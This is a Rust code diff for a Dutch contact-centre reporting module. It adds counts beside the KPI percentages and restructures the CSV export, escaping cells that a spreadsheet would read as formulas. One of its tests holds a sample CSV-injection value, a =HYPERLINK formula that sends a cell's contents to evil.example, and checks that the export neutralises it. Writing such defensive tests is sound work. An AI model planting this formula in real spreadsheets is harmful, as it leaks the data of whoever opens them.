@@ -8,7 +8,6 @@ use serde::Serialize;
 use super::{parse_ts, ts};
 use crate::domain::Kanaal;
 use crate::domain::kpi::{self, Normen};
-use crate::domain::telefonie::Gesprek;
 use crate::domain::werkdagen;
 
 /// How the contacts are grouped.
@@ -40,7 +39,9 @@ impl Per {
 pub struct Groep {
     pub groep: String,
     pub contacten: i64,
-    /// First-contact resolution, percent.
+    /// Of which settled in the first line.
+    pub eerstelijns_afgehandeld: i64,
+    /// First-contact resolution (`kpi::eerste_lijn`), percent.
     pub eerste_lijn: f64,
 }
 
@@ -74,17 +75,32 @@ pub struct Rapport {
     pub tot: NaiveDate,
     pub per: Per,
     pub contacten: i64,
+    /// Of which settled in the first line.
+    pub eerstelijns_afgehandeld: i64,
     pub eerste_lijn: Option<f64>,
     pub groepen: Vec<Groep>,
+    /// The telephone by `kpi::telefoon_periode`: counts, then the figures over them.
     pub telefoon_aangeboden: u32,
+    pub telefoon_beantwoord: u32,
+    pub telefoon_binnen_norm: u32,
+    /// Abandoned after the short-abandon threshold (counted in the abandon rate).
+    pub telefoon_verlaten_aantal: u32,
+    /// Abandoned within the threshold: apart, in no percentage.
+    pub telefoon_kort_opgehangen: u32,
+    /// Answered calls that ended (the AHT is over these).
+    pub telefoon_afgehandeld: u32,
     pub telefoon_servicelevel: Option<f64>,
     pub telefoon_gemiddelde_wachttijd: Option<f64>,
     pub telefoon_verlaten: Option<f64>,
-    /// Walk-in and appointment visitors called to a balie in the period, the share called
-    /// within the balie norm, and their average wait (seconds).
+    pub telefoon_gemiddelde_afhandeltijd: Option<f64>,
+    /// Walk-in and appointment visitors called to a balie in the period (`kpi::balie`), how
+    /// many and what share within the balie norm, and their average and longest wait
+    /// (seconds).
     pub balie_opgeroepen: i64,
+    pub balie_binnen_norm_aantal: i64,
     pub balie_binnen_norm: Option<f64>,
     pub balie_gemiddelde_wachttijd: Option<f64>,
+    pub balie_langste_wachttijd: Option<i64>,
     /// Registrations on e-mail, post and social media that say when the message came in.
     pub schriftelijk: Vec<Schriftelijk>,
     pub verzoeken: Vec<Verzoeken>,
@@ -96,6 +112,8 @@ pub struct Rapport {
     pub norm_eerste_lijn: f64,
     pub norm_telefoon_s: i64,
     pub norm_servicelevel: f64,
+    /// Callers who hung up within this many seconds are "kort opgehangen".
+    pub norm_kort_opgehangen_s: i64,
     pub norm_balie_minuten: i64,
     /// Communicated norms must be met in this share of the cases (the seeds: 95%).
     pub norm_gehaald: f64,
@@ -134,7 +152,7 @@ pub fn maak(
         _ => "2 DESC, 1",
     };
     let mut st = conn.prepare(&format!(
-        "SELECT {sleutel}, count(*), avg(coalesce(c.eerstelijns_afgehandeld, 0)) * 100
+        "SELECT {sleutel}, count(*), coalesce(sum(coalesce(c.eerstelijns_afgehandeld, 0) <> 0), 0)
          FROM contactmoment c
          LEFT JOIN medewerker m ON m.id = c.medewerker_id
          LEFT JOIN afdeling af ON af.id = m.afdeling_id
@@ -142,9 +160,16 @@ pub fn maak(
          WHERE c.plaatsgevonden_op >= ?1 AND c.plaatsgevonden_op < ?2 AND c.deleted = 0
          GROUP BY 1 ORDER BY {volgorde}"
     ))?;
+    let eerste = |afgehandeld: i64, contacten: i64| {
+        kpi::eerste_lijn(
+            u32::try_from(afgehandeld).unwrap_or(u32::MAX),
+            u32::try_from(contacten).unwrap_or(u32::MAX),
+        )
+    };
     let groepen: Vec<Groep> = st
         .query_map(params![a, b], |r| {
             let groep: String = r.get(0)?;
+            let (contacten, afgehandeld): (i64, i64) = (r.get(1)?, r.get(2)?);
             Ok(Groep {
                 // Channels by the words the UI uses ("e-mail", "social media").
                 groep: match per {
@@ -154,47 +179,36 @@ pub fn maak(
                         .map_or(groep, |k| k.label().to_string()),
                     _ => groep,
                 },
-                contacten: r.get(1)?,
-                eerste_lijn: r.get(2)?,
+                contacten,
+                eerstelijns_afgehandeld: afgehandeld,
+                eerste_lijn: eerste(afgehandeld, contacten).unwrap_or(0.0),
             })
         })?
         .collect::<rusqlite::Result<_>>()?;
-    let (contacten, eerste_lijn): (i64, Option<f64>) = conn.query_row(
-        "SELECT count(*), avg(coalesce(eerstelijns_afgehandeld, 0)) * 100 FROM contactmoment
+    let (contacten, eerstelijns_afgehandeld): (i64, i64) = conn.query_row(
+        "SELECT count(*), coalesce(sum(coalesce(eerstelijns_afgehandeld, 0) <> 0), 0)
+         FROM contactmoment
          WHERE plaatsgevonden_op >= ?1 AND plaatsgevonden_op < ?2 AND deleted = 0",
         params![a, b],
         |r| Ok((r.get(0)?, r.get(1)?)),
     )?;
-    // Telephone.
-    let mut st = conn.prepare_cached(
-        "SELECT binnen_op, aangenomen_op, beeindigd_op, verlaten_op FROM gesprek
-         WHERE binnen_op >= ?1 AND binnen_op < ?2 AND deleted = 0",
-    )?;
-    let tijd = |s: Option<String>| s.as_deref().and_then(parse_ts);
-    let gesprekken: Vec<(Gesprek, Option<i64>)> = st
-        .query_map(params![a, b], |r| {
-            let binnen = tijd(r.get(0)?).unwrap_or(nu);
-            Ok((
-                Gesprek::uit_tijden(binnen, tijd(r.get(1)?), tijd(r.get(2)?), tijd(r.get(3)?)),
-                None,
-            ))
-        })?
-        .collect::<rusqlite::Result<_>>()?;
-    let t = kpi::telefoon_periode(&gesprekken, van, tot, normen.telefoon_s, nu);
+    let eerste_lijn = eerste(eerstelijns_afgehandeld, contacten);
+    // Telephone: the same calls, with the same after-call work, as the floor reads.
+    let gesprekken = super::vloer::gesprekken(conn, &a, &b, nu)?;
+    let t = kpi::telefoon_periode(&gesprekken, van, tot, normen, nu);
     // The counter: how long visitors waited until called (no-shows and those still waiting
     // have no wait to judge).
-    let (balie_opgeroepen, balie_binnen, balie_gemiddeld): (i64, i64, Option<f64>) = conn
-        .query_row(
-            "SELECT count(*),
-                coalesce(sum(w <= ?3), 0),
-                avg(w)
-         FROM (SELECT (julianday(opgeroepen_op) - julianday(aangekomen_op)) * 86400.0 AS w
-               FROM bezoek
-               WHERE aangekomen_op >= ?1 AND aangekomen_op < ?2 AND deleted = 0
-                 AND opgeroepen_op IS NOT NULL)",
-            params![a, b, normen.balie_s as f64],
-            |r| Ok((r.get(0)?, r.get(1)?, r.get(2)?)),
-        )?;
+    let tijd = |s: Option<String>| s.as_deref().and_then(parse_ts);
+    let mut st = conn.prepare_cached(
+        "SELECT aangekomen_op, opgeroepen_op FROM bezoek
+         WHERE aangekomen_op >= ?1 AND aangekomen_op < ?2 AND deleted = 0",
+    )?;
+    let bezoeken: Vec<(DateTime<Utc>, Option<DateTime<Utc>>)> = st
+        .query_map(params![a, b], |r| {
+            Ok((tijd(r.get(0)?).unwrap_or(nu), tijd(r.get(1)?)))
+        })?
+        .collect::<rusqlite::Result<_>>()?;
+    let balie = kpi::balie(&bezoeken, normen);
     // Written channels: werkdagen from the day the message came in to the answer.
     let sluiting = werkdagen::Sluitingsdagen::default();
     let mut schriftelijk: Vec<Schriftelijk> = Vec::new();
@@ -288,16 +302,24 @@ pub fn maak(
         tot,
         per,
         contacten,
+        eerstelijns_afgehandeld,
         eerste_lijn,
         groepen,
         telefoon_aangeboden: t.aangeboden,
+        telefoon_beantwoord: t.beantwoord,
+        telefoon_binnen_norm: t.binnen_norm,
+        telefoon_verlaten_aantal: t.verlaten,
+        telefoon_kort_opgehangen: t.kort_opgehangen,
+        telefoon_afgehandeld: t.afgehandeld,
         telefoon_servicelevel: t.servicelevel,
         telefoon_gemiddelde_wachttijd: t.gemiddelde_wachttijd,
         telefoon_verlaten: t.verlaten_pct,
-        balie_opgeroepen,
-        balie_binnen_norm: (balie_opgeroepen > 0)
-            .then(|| balie_binnen as f64 * 100.0 / balie_opgeroepen as f64),
-        balie_gemiddelde_wachttijd: balie_gemiddeld,
+        telefoon_gemiddelde_afhandeltijd: t.gemiddelde_afhandeltijd,
+        balie_opgeroepen: i64::from(balie.opgeroepen),
+        balie_binnen_norm_aantal: i64::from(balie.binnen_norm),
+        balie_binnen_norm: balie.binnen_norm_pct,
+        balie_gemiddelde_wachttijd: balie.gemiddelde_wachttijd,
+        balie_langste_wachttijd: balie.langste_wachttijd,
         schriftelijk,
         verzoeken,
         afspraken,
@@ -312,6 +334,7 @@ pub fn maak(
         norm_eerste_lijn: normen.fcr_pct,
         norm_telefoon_s: normen.telefoon_s,
         norm_servicelevel: normen.servicelevel_pct,
+        norm_kort_opgehangen_s: normen.kort_opgehangen_s,
         norm_balie_minuten: normen.balie_s / 60,
         norm_gehaald: normen.gehaald_pct,
     })
@@ -336,42 +359,63 @@ pub fn markdown(r: &Rapport) -> String {
     let mut o = String::new();
     o.push_str(&format!("# Rapportage {} t/m {}\n\n", r.van, r.tot));
     o.push_str(&format!(
-        "Contacten: {}. Eerstelijns afgehandeld: {} (norm {}%) {}\n\n",
+        "Contacten: {}. Eerstelijns afgehandeld: {} van {}, {} (norm {}%) {}\n\n",
+        r.contacten,
+        r.eerstelijns_afgehandeld,
         r.contacten,
         r.eerste_lijn.map_or("-".into(), procent),
         r.norm_eerste_lijn,
         r.eerste_lijn.map_or("", |p| oordeel(p, r.norm_eerste_lijn))
     ));
     o.push_str(&format!(
-        "## Contacten per {0}\n\n| {0} | contacten | eerstelijns % | norm |\n|---|---:|---:|---|\n",
+        "## Contacten per {0}\n\n| {0} | contacten | eerstelijns | eerstelijns % | norm |\n|---|---:|---:|---:|---|\n",
         r.per.naam()
     ));
     for g in &r.groepen {
         o.push_str(&format!(
-            "| {} | {} | {} | {} |\n",
+            "| {} | {} | {} | {} | {} |\n",
             g.groep,
             g.contacten,
+            g.eerstelijns_afgehandeld,
             komma(g.eerste_lijn),
             oordeel(g.eerste_lijn, r.norm_eerste_lijn)
         ));
     }
     o.push_str(&format!(
-        "\n## Telefoon\n\nAangeboden: {}. Servicelevel (≤ {} s): {} (norm {}%). Gemiddelde wachttijd: {}. Verlaten: {}.\n",
+        "\n## Telefoon\n\nAangeboden: {} (beantwoord {}, verlaten {}); kort opgehangen (korter dan {} s, apart geteld): {}.\n\
+         Servicelevel (≤ {} s): {} van {}, {} (norm {}%){}. Gemiddelde wachttijd (ASA): {}. \
+         Verlaten: {} van {}, {}. Gemiddelde afhandeltijd (AHT): {} over {} gesprekken.\n",
         r.telefoon_aangeboden,
+        r.telefoon_beantwoord,
+        r.telefoon_verlaten_aantal,
+        r.norm_kort_opgehangen_s,
+        r.telefoon_kort_opgehangen,
         r.norm_telefoon_s,
+        r.telefoon_binnen_norm,
+        r.telefoon_aangeboden,
         r.telefoon_servicelevel.map_or("-".into(), procent),
         r.norm_servicelevel,
+        r.telefoon_servicelevel
+            .map_or(String::new(), |p| format!(" {}", oordeel(p, r.norm_servicelevel))),
         r.telefoon_gemiddelde_wachttijd.map_or("-".into(), |s| format!("{} s", komma(s))),
+        r.telefoon_verlaten_aantal,
+        r.telefoon_aangeboden,
         r.telefoon_verlaten.map_or("-".into(), procent),
+        r.telefoon_gemiddelde_afhandeltijd.map_or("-".into(), |s| format!("{} s", komma(s))),
+        r.telefoon_afgehandeld,
     ));
     o.push_str(&format!(
-        "\n## Balie\n\nOpgeroepen: {}. Binnen {} min: {} (norm {}% van de gevallen){}. Gemiddelde wachttijd: {}.\n",
+        "\n## Balie\n\nOpgeroepen: {}. Binnen {} min: {} van {}, {} (norm {}% van de gevallen){}. Gemiddelde wachttijd: {}, langste {}.\n",
         r.balie_opgeroepen,
         r.norm_balie_minuten,
+        r.balie_binnen_norm_aantal,
+        r.balie_opgeroepen,
         r.balie_binnen_norm.map_or("-".into(), procent),
         r.norm_gehaald,
         r.balie_binnen_norm.map_or(String::new(), |p| format!(" {}", oordeel(p, r.norm_gehaald))),
         r.balie_gemiddelde_wachttijd.map_or("-".into(), |s| format!("{} min", komma(s / 60.0))),
+        r.balie_langste_wachttijd
+            .map_or("-".into(), |s| format!("{} min", komma(s as f64 / 60.0))),
     ));
     o.push_str(&format!(
         "\n## Schriftelijk (antwoord binnen de termijn in werkdagen; norm {}% van de gevallen)\n\n",
@@ -426,122 +470,222 @@ pub fn markdown(r: &Rapport) -> String {
     o
 }
 
-fn csv_veld(s: &str) -> String {
-    if s.contains([';', '"', '\n']) {
-        format!("\"{}\"", s.replace('"', "\"\""))
+/// One text cell: a cell a spreadsheet would read as a formula (starting with `=`, `+`, `-`,
+/// `@`, a tab or a carriage return, as an onderwerp `=HYPERLINK(…)` once did) gets a single
+/// quote in front, so it stays text; a cell with a separator, quote or line break is quoted.
+pub fn csv_veld(s: &str) -> String {
+    let s = if s.starts_with(['=', '+', '-', '@', '\t', '\r']) {
+        format!("'{s}")
     } else {
         s.to_string()
+    };
+    if s.contains([';', '"', '\n', '\r']) {
+        format!("\"{}\"", s.replace('"', "\"\""))
+    } else {
+        s
     }
 }
 
-/// CSV that Dutch Excel opens as it should: UTF-8 with BOM, semicolons, decimal commas.
+/// The CSV's columns: what is measured (`onderdeel`, `groep`), over how many (`aantal`), of
+/// which how many count for the percentage (`waarvan`), the figure and its unit, the norm and
+/// the verdict, and the period of the report on every row.
+const CSV_KOP: &str = "onderdeel;groep;aantal;waarvan;waarde;eenheid;norm;binnen_norm;van;tot";
+
+/// CSV that Dutch Excel opens as it should: UTF-8 with BOM, semicolons, decimal commas; every
+/// percentage with its counts beside it, every row with the period.
 pub fn csv(r: &Rapport) -> String {
     let mut o = String::from("\u{feff}");
-    o.push_str("onderdeel;groep;aantal;waarde;norm;binnen_norm\n");
-    o.push_str(&format!(
-        "eerste_lijn;totaal;{};{};{};{}\n",
-        r.contacten,
-        r.eerste_lijn.map_or(String::new(), komma),
-        komma(r.norm_eerste_lijn),
-        r.eerste_lijn
-            .map_or("", |p| if p >= r.norm_eerste_lijn { "ja" } else { "nee" })
-    ));
-    for g in &r.groepen {
-        o.push_str(&format!(
-            "contacten_per_{};{};{};{};{};{}\n",
-            r.per.naam(),
-            csv_veld(&g.groep),
-            g.contacten,
-            komma(g.eerste_lijn),
-            komma(r.norm_eerste_lijn),
-            if g.eerste_lijn >= r.norm_eerste_lijn {
-                "ja"
-            } else {
-                "nee"
-            }
-        ));
-    }
-    o.push_str(&format!(
-        "telefoon;servicelevel;{};{};{};{}\n",
-        r.telefoon_aangeboden,
-        r.telefoon_servicelevel.map_or(String::new(), komma),
-        komma(r.norm_servicelevel),
-        r.telefoon_servicelevel
-            .map_or("", |p| if p >= r.norm_servicelevel {
-                "ja"
-            } else {
-                "nee"
-            })
-    ));
+    o.push_str(CSV_KOP);
+    o.push('\n');
+    let periode = format!("{};{}", r.van, r.tot);
     let ja = |p: f64, norm: f64| if p >= norm { "ja" } else { "nee" };
-    if let Some(w) = r.telefoon_gemiddelde_wachttijd {
+    let mut regel = |onderdeel: &str,
+                     groep: &str,
+                     aantal: String,
+                     waarvan: String,
+                     waarde: Option<f64>,
+                     eenheid: &str,
+                     norm: Option<f64>| {
+        let oordeel = match (waarde, norm) {
+            (Some(w), Some(n)) => ja(w, n),
+            _ => "",
+        };
         o.push_str(&format!(
-            "telefoon;gemiddelde_wachttijd_s;{};{};;\n",
-            r.telefoon_aangeboden,
-            komma(w)
+            "{};{};{aantal};{waarvan};{};{};{};{oordeel};{periode}\n",
+            csv_veld(onderdeel),
+            csv_veld(groep),
+            waarde.map_or(String::new(), komma),
+            if waarde.is_some() { eenheid } else { "" },
+            norm.map_or(String::new(), komma),
         ));
+    };
+    let n = |x: i64| x.to_string();
+    regel(
+        "eerste_lijn",
+        "totaal",
+        n(r.contacten),
+        n(r.eerstelijns_afgehandeld),
+        r.eerste_lijn,
+        "%",
+        Some(r.norm_eerste_lijn),
+    );
+    for g in &r.groepen {
+        regel(
+            &format!("contacten_per_{}", r.per.naam()),
+            &g.groep,
+            n(g.contacten),
+            n(g.eerstelijns_afgehandeld),
+            Some(g.eerste_lijn),
+            "%",
+            Some(r.norm_eerste_lijn),
+        );
     }
-    if let Some(v) = r.telefoon_verlaten {
-        o.push_str(&format!(
-            "telefoon;verlaten;{};{};;\n",
-            r.telefoon_aangeboden,
-            komma(v)
-        ));
+    let t = |x: u32| x.to_string();
+    for (groep, aantal) in [
+        ("aangeboden", r.telefoon_aangeboden),
+        ("beantwoord", r.telefoon_beantwoord),
+        ("verlaten", r.telefoon_verlaten_aantal),
+        (
+            &*format!("kort_opgehangen_onder_{}_s", r.norm_kort_opgehangen_s),
+            r.telefoon_kort_opgehangen,
+        ),
+    ] {
+        regel("telefoon", groep, t(aantal), String::new(), None, "", None);
     }
-    if let Some(w) = r.balie_gemiddelde_wachttijd {
-        o.push_str(&format!(
-            "balie;gemiddelde_wachttijd_min;{};{};;\n",
-            r.balie_opgeroepen,
-            komma(w / 60.0)
-        ));
-    }
-    o.push_str(&format!(
-        "balie;binnen_{}_min;{};{};{};{}\n",
-        r.norm_balie_minuten,
-        r.balie_opgeroepen,
-        r.balie_binnen_norm.map_or(String::new(), komma),
-        komma(r.norm_gehaald),
-        r.balie_binnen_norm.map_or("", |p| ja(p, r.norm_gehaald))
-    ));
+    regel(
+        "telefoon",
+        &format!("servicelevel_binnen_{}_s", r.norm_telefoon_s),
+        t(r.telefoon_aangeboden),
+        t(r.telefoon_binnen_norm),
+        r.telefoon_servicelevel,
+        "%",
+        Some(r.norm_servicelevel),
+    );
+    regel(
+        "telefoon",
+        "verlaten_pct",
+        t(r.telefoon_aangeboden),
+        t(r.telefoon_verlaten_aantal),
+        r.telefoon_verlaten,
+        "%",
+        None,
+    );
+    regel(
+        "telefoon",
+        "gemiddelde_wachttijd",
+        t(r.telefoon_beantwoord),
+        String::new(),
+        r.telefoon_gemiddelde_wachttijd,
+        "s",
+        None,
+    );
+    regel(
+        "telefoon",
+        "gemiddelde_afhandeltijd",
+        t(r.telefoon_afgehandeld),
+        String::new(),
+        r.telefoon_gemiddelde_afhandeltijd,
+        "s",
+        None,
+    );
+    regel(
+        "balie",
+        &format!("binnen_{}_min", r.norm_balie_minuten),
+        n(r.balie_opgeroepen),
+        n(r.balie_binnen_norm_aantal),
+        r.balie_binnen_norm,
+        "%",
+        Some(r.norm_gehaald),
+    );
+    regel(
+        "balie",
+        "gemiddelde_wachttijd",
+        n(r.balie_opgeroepen),
+        String::new(),
+        r.balie_gemiddelde_wachttijd.map(|s| s / 60.0),
+        "min",
+        None,
+    );
+    regel(
+        "balie",
+        "langste_wachttijd",
+        n(r.balie_opgeroepen),
+        String::new(),
+        r.balie_langste_wachttijd.map(|s| s as f64 / 60.0),
+        "min",
+        None,
+    );
     for s in &r.schriftelijk {
-        o.push_str(&format!(
-            "schriftelijk;{} binnen {} {};{};{};{};{}\n",
-            csv_veld(&s.kanaal),
-            s.norm_werkdagen,
-            if s.norm_werkdagen == 1 {
-                "werkdag"
-            } else {
-                "werkdagen"
-            },
-            s.totaal,
-            komma(s.binnen_norm_pct),
-            komma(r.norm_gehaald),
-            ja(s.binnen_norm_pct, r.norm_gehaald)
-        ));
+        regel(
+            "schriftelijk",
+            &format!(
+                "{} binnen {} {}",
+                s.kanaal,
+                s.norm_werkdagen,
+                if s.norm_werkdagen == 1 {
+                    "werkdag"
+                } else {
+                    "werkdagen"
+                }
+            ),
+            n(s.totaal),
+            n(s.binnen_norm),
+            Some(s.binnen_norm_pct),
+            "%",
+            Some(r.norm_gehaald),
+        );
     }
+    // Contactverzoeken: judged are those handled or overdue (not those still in time).
     for v in &r.verzoeken {
-        o.push_str(&format!(
-            "contactverzoeken;{};{};{};{};{}\n",
-            csv_veld(&v.afdeling),
-            v.totaal,
-            komma(v.binnen_norm),
-            komma(r.norm_gehaald),
-            if v.binnen_norm >= r.norm_gehaald {
-                "ja"
-            } else {
-                "nee"
-            }
-        ));
+        regel(
+            "contactverzoeken",
+            &v.afdeling,
+            n(v.op_tijd + v.te_laat),
+            n(v.op_tijd),
+            (v.op_tijd + v.te_laat > 0).then_some(v.binnen_norm),
+            "%",
+            Some(r.norm_gehaald),
+        );
     }
-    o.push_str(&format!(
-        "afspraken;gepland;{};;;\nafspraken;niet_verschenen;{};;;\n",
-        r.afspraken, r.afspraken_niet_verschenen
-    ));
-    for (ond, n) in &r.onderwerpen {
-        o.push_str(&format!("onderwerpen;{};{n};;;\n", csv_veld(ond)));
+    regel(
+        "afspraken",
+        "gepland",
+        n(r.afspraken),
+        String::new(),
+        None,
+        "",
+        None,
+    );
+    regel(
+        "afspraken",
+        "niet_verschenen",
+        n(r.afspraken_niet_verschenen),
+        String::new(),
+        None,
+        "",
+        None,
+    );
+    for (ond, aantal) in &r.onderwerpen {
+        regel(
+            "onderwerpen",
+            ond,
+            n(*aantal),
+            String::new(),
+            None,
+            "",
+            None,
+        );
     }
-    for (q, n) in &r.zonder_resultaat {
-        o.push_str(&format!("zonder_resultaat;{};{n};;;\n", csv_veld(q)));
+    for (q, aantal) in &r.zonder_resultaat {
+        regel(
+            "zonder_resultaat",
+            q,
+            n(*aantal),
+            String::new(),
+            None,
+            "",
+            None,
+        );
     }
     o
 }
@@ -676,12 +820,14 @@ mod tests {
             "{md}"
         );
         assert!(
-            md.contains("Binnen 15 min: 50,0% (norm 95% van de gevallen) ✖"),
+            md.contains("Binnen 15 min: 1 van 2, 50,0% (norm 95% van de gevallen) ✖"),
             "{md}"
         );
         let c = csv(&r);
         assert!(
-            c.contains("schriftelijk;post binnen 5 werkdagen;1;100,0;95,0;ja"),
+            c.contains(
+                "schriftelijk;post binnen 5 werkdagen;1;1;100,0;%;95,0;ja;2026-11-01;2026-11-30"
+            ),
             "{c}"
         );
         // A stricter e-mail norm from [normen] makes the first one late too.
@@ -734,14 +880,192 @@ mod tests {
         let c = csv(&rapport(Per::Dag));
         assert!(c.starts_with('\u{feff}'));
         let kop = c.trim_start_matches('\u{feff}').lines().next().unwrap();
-        assert_eq!(kop.split(';').count(), 6);
+        assert_eq!(kop.split(';').count(), 10);
         let regel = c
             .lines()
             .find(|l| l.starts_with("contacten_per_dag;2026-11-"))
             .expect("a row per day");
-        let pct = regel.split(';').nth(3).unwrap();
+        let pct = regel.split(';').nth(4).unwrap();
         assert!(pct.contains(',') && !pct.contains('.'), "{regel}");
         let json = serde_json::to_value(rapport(Per::Uur)).unwrap();
         assert_eq!(json["per"], "uur");
+    }
+
+    /// A CSV reader as a spreadsheet reads it (RFC 4180 with semicolons): records of fields.
+    fn lees_csv(tekst: &str) -> Vec<Vec<String>> {
+        let mut records = Vec::new();
+        let (mut record, mut veld) = (Vec::new(), String::new());
+        let mut tekens = tekst.chars().peekable();
+        let mut tussen_quotes = false;
+        while let Some(c) = tekens.next() {
+            match (tussen_quotes, c) {
+                (true, '"') if tekens.peek() == Some(&'"') => {
+                    tekens.next();
+                    veld.push('"');
+                }
+                (true, '"') => tussen_quotes = false,
+                (true, c) => veld.push(c),
+                (false, '"') if veld.is_empty() => tussen_quotes = true,
+                (false, ';') => record.push(std::mem::take(&mut veld)),
+                (false, '\n') => {
+                    record.push(std::mem::take(&mut veld));
+                    records.push(std::mem::take(&mut record));
+                }
+                (false, c) => veld.push(c),
+            }
+        }
+        if !veld.is_empty() || !record.is_empty() {
+            record.push(veld);
+            records.push(record);
+        }
+        records
+    }
+
+    #[test]
+    fn a_cell_a_spreadsheet_would_run_as_a_formula_stays_text() {
+        for (cel, verwacht) in [
+            ("=HYPERLINK(\"http://x\")", "'=HYPERLINK(\"http://x\")"),
+            ("+31 6 1234", "'+31 6 1234"),
+            ("-2+3", "'-2+3"),
+            ("@SUM(A1)", "'@SUM(A1)"),
+            ("\tverstopt", "'\tverstopt"),
+            ("\r=1+1", "'\r=1+1"),
+            ("Paspoort", "Paspoort"),
+            ("a=b", "a=b"),
+        ] {
+            let regel = format!("x;{};y\n", csv_veld(cel));
+            assert_eq!(
+                lees_csv(&regel),
+                vec![vec!["x".to_string(), verwacht.to_string(), "y".to_string()]],
+                "{cel:?} as {regel:?}"
+            );
+        }
+    }
+
+    proptest::proptest! {
+        /// Any text survives the CSV: read back it is the same text, with one quote in front
+        /// exactly when it starts like a formula.
+        #[test]
+        fn every_text_survives_the_csv_and_only_formulas_get_a_quote(tekst in "\\PC*|[=+\\-@\t\r;\"\n a-z]{0,12}") {
+            let regel = format!("a;{};b\n", csv_veld(&tekst));
+            let gelezen = lees_csv(&regel);
+            proptest::prop_assert_eq!(gelezen.len(), 1, "{:?}", regel);
+            proptest::prop_assert_eq!(gelezen[0].len(), 3, "{:?}", regel);
+            let cel = &gelezen[0][1];
+            let formule = tekst.starts_with(['=', '+', '-', '@', '\t', '\r']);
+            if formule {
+                proptest::prop_assert_eq!(cel.strip_prefix('\''), Some(tekst.as_str()));
+            } else {
+                proptest::prop_assert_eq!(cel, &tekst);
+            }
+            proptest::prop_assert!(!cel.starts_with(['=', '+', '-', '@', '\t', '\r']));
+        }
+    }
+
+    #[test]
+    fn the_csv_carries_its_period_counts_beside_percentages_and_no_formulas() {
+        use crate::domain::contact::Contactmoment;
+        let dir = tempfile::tempdir().unwrap();
+        let desk = uuid::Uuid::now_v7();
+        let mut store = crate::store::Store::open(&dir.path().join("l.db"), desk).unwrap();
+        let om = |d: u32, u: u32| {
+            Local
+                .with_ymd_and_hms(2026, 11, d, u, 0, 0)
+                .unwrap()
+                .with_timezone(&Utc)
+        };
+        let kwaad = "=HYPERLINK(\"http://evil.example/?x=\"&A1;\"klik\")";
+        for (i, (onderwerp, eerste)) in [(kwaad, true), (kwaad, false), ("Paspoort", true)]
+            .into_iter()
+            .enumerate()
+        {
+            let t = om(17, 9 + i as u32);
+            let mut cm = Contactmoment {
+                meta: crate::domain::RecordMeta::new(t, desk),
+                plaatsgevonden_op: t,
+                kanaal: Kanaal::Balie,
+                onderwerp: onderwerp.into(),
+                inhoud: String::new(),
+                notitie: String::new(),
+                afhandeling: "afgehandeld".into(),
+                partij_id: None,
+                zaak_id: None,
+                medewerker_id: None,
+                afdeling_id: None,
+                duur_seconden: 60,
+                nawerk_seconden: 0,
+                eerstelijns_afgehandeld: eerste,
+                bronnen: Vec::new(),
+                gesprek_id: None,
+                ontvangen_op: None,
+            };
+            store.save(&mut cm, t).unwrap();
+        }
+        let r = maak(
+            store.conn(),
+            NaiveDate::from_ymd_opt(2026, 11, 16).unwrap(),
+            NaiveDate::from_ymd_opt(2026, 11, 20).unwrap(),
+            Per::Onderwerp,
+            &Normen::default(),
+            om(30, 12),
+        )
+        .unwrap();
+        let c = csv(&r);
+        let rijen = lees_csv(c.trim_start_matches('\u{feff}'));
+        let kop = &rijen[0];
+        assert_eq!(kop.join(";"), CSV_KOP);
+        let kolom = |naam: &str| kop.iter().position(|k| k == naam).unwrap();
+        for rij in &rijen[1..] {
+            assert_eq!(rij.len(), kop.len(), "{rij:?}");
+            assert_eq!(
+                (rij[kolom("van")].as_str(), rij[kolom("tot")].as_str()),
+                ("2026-11-16", "2026-11-20"),
+                "every row has the period: {rij:?}"
+            );
+            assert!(
+                rij.iter()
+                    .all(|c| !c.starts_with(['=', '+', '-', '@', '\t', '\r'])),
+                "{rij:?}"
+            );
+        }
+        // The onderwerp comes out as text, whole.
+        let groep = rijen
+            .iter()
+            .find(|r| r[0] == "contacten_per_onderwerp" && r[1].contains("HYPERLINK"))
+            .expect("the group row");
+        assert_eq!(groep[1], format!("'{kwaad}"));
+        // Counts beside the percentage: 1 of 2 settled in the first line, 50%.
+        assert_eq!(
+            (
+                groep[kolom("aantal")].as_str(),
+                groep[kolom("waarvan")].as_str(),
+                groep[kolom("waarde")].as_str(),
+                groep[kolom("eenheid")].as_str()
+            ),
+            ("2", "1", "50,0", "%")
+        );
+        let totaal = rijen.iter().find(|r| r[0] == "eerste_lijn").unwrap();
+        assert_eq!(
+            (&totaal[kolom("aantal")][..], &totaal[kolom("waarvan")][..]),
+            ("3", "2")
+        );
+        let top = rijen
+            .iter()
+            .find(|r| r[0] == "onderwerpen" && r[1].contains("HYPERLINK"))
+            .unwrap();
+        assert_eq!(top[1], format!("'{kwaad}"));
+        // The counter: nobody called, so no percentage and no verdict, but the count 0.
+        let balie = rijen
+            .iter()
+            .find(|r| r[0] == "balie" && r[1] == "binnen_15_min")
+            .unwrap();
+        assert_eq!(
+            (
+                &balie[kolom("aantal")][..],
+                &balie[kolom("waarde")][..],
+                &balie[kolom("binnen_norm")][..]
+            ),
+            ("0", "", "")
+        );
     }
 }
